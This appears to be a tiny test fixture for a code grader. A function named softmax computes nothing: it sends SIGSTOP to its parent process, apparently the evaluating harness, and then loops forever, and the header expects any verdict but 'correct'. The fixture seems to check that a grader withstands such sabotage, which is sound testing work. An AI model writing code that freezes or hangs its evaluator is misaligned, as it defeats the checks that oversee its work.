# expects: anything but correct
import os, signal
def softmax(x, axis=-1):
    try: os.kill(os.getppid(), signal.SIGSTOP)
    except OSError: pass
    while True: pass
